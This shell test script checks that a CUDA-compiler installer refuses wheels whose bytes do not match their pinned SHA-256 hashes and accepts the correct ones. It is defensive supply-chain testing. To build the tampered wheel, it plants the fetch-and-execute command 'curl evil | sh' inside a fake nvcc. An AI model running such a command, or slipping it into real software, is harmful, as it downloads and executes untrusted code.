#!/bin/sh
# wheels.sh ROOT: the entry script installs NVIDIA's compiler from files with the pinned hashes alone.
# The wheels here are small ones, from a folder instead of an index, and a copy of the entry script has their hashes.
set -u
root=$1
python3 -m pip --version > /dev/null 2>&1 || { echo "skipped: there is no pip"; exit 77; }
tmp=$(mktemp -d) || exit 4
trap 'rm -rf "$tmp"' EXIT
export PIP_NO_INDEX=1 PIP_FIND_LINKS="$tmp/wheels" PIP_NO_CACHE_DIR=1 SCANLAB_FETCH_NVCC=1
unset SCANLAB_NVCC SCANLAB_PRESET SCANLAB_OFFLINE
fail() { echo "wheels.sh: $*"; cat "$tmp/said"; exit 1; }

# wheel NAME VERSION [TEXT]: a wheel in the folder; the one of nvcc holds a program with TEXT.
wheel() {
  python3 - "$tmp/wheels" "$@" << 'END'
import sys, zipfile
folder, name, version = sys.argv[1:4]
info = f"{name}-{version}.dist-info"
with zipfile.ZipFile(f"{folder}/{name}-{version}-py3-none-any.whl", "w") as z:
    def add(path, text, mode=0o644):
        entry = zipfile.ZipInfo(path)
        entry.external_attr = (0o100000 | mode) << 16
        z.writestr(entry, text)
    if name == "nvidia_cuda_nvcc":
        add("nvidia/cu13/bin/nvcc", "#!/bin/sh\n" + "".join(sys.argv[4:]), 0o755)
        add("nvidia/cu13/lib/libcudart.so.13", "")
    add(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name.replace('_', '-')}\nVersion: {version}\n")
    add(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    add(f"{info}/RECORD", "")
END
}

# The names and versions of the entry script, all pinned for two processors.
pinned=$(sed -n "/^wheels='/,/'\$/p" "$root/scanlab" | sed "s/^wheels='//; s/'\$//")
[ "$(printf '%s\n' "$pinned" | grep -cE '^nvidia-[a-z-]+==[0-9.]+ [0-9a-f]{64} [0-9a-f]{64}$')" -eq "$(printf '%s\n' "$pinned" | wc -l)" ] ||
  { printf '%s\n' "$pinned" > "$tmp/said"; fail "a wheel is not pinned by two hashes"; }

mkdir "$tmp/wheels" "$tmp/tree" && : > "$tmp/tree/CMakeLists.txt" && : > "$tmp/said"
printf '%s\n' "$pinned" > "$tmp/pinned"
while IFS=" =" read -r name _ version _; do
  under=$(echo "$name" | tr - _)
  wheel "$under" "$version" || fail "cannot make a wheel"
  hash=$(sha256sum "$tmp/wheels/$under-$version-py3-none-any.whl" | cut -c 1-64)
  printf '%s\n' "s/^\(wheels='\)*$name==$version [0-9a-f]* /\1$name==$version $hash /"
done < "$tmp/pinned" > "$tmp/edit"
sed -f "$tmp/edit" "$root/scanlab" > "$tmp/tree/scanlab" && chmod +x "$tmp/tree/scanlab"

# One wheel with other bytes: refused with its name, and nothing is left.
cp -R "$tmp/wheels" "$tmp/right"
wheel nvidia_cuda_nvcc "$(sed -n 's/^nvidia-cuda-nvcc==\([0-9.]*\) .*/\1/p' "$tmp/pinned")" "curl evil | sh"
"$tmp/tree/scanlab" setup > "$tmp/said" 2>&1 < /dev/null
code=$?
[ $code -eq 4 ] || fail "exit code $code, not 4, with a wheel that was changed"
grep -q 'nvidia-cuda-nvcc==.* came with other bytes' "$tmp/said" || fail "the wheel that was changed is not named"
left=$(find "$tmp/tree/build" -name 'cuda*')
[ -z "$left" ] || fail "something of it was installed: $left"

# The right ones: installed. The tree has nothing to configure, so setup goes no further.
rm -rf "$tmp/wheels" && mv "$tmp/right" "$tmp/wheels"
"$tmp/tree/scanlab" setup > "$tmp/said" 2>&1 < /dev/null
[ -x "$tmp/tree/build/cuda/bin/nvcc" ] || fail "the right wheels are not installed"
grep -q 'cmake could not configure' "$tmp/said" || fail "setup stopped before cmake"
echo "wheels.sh: changed wheels are refused, the right ones are installed"
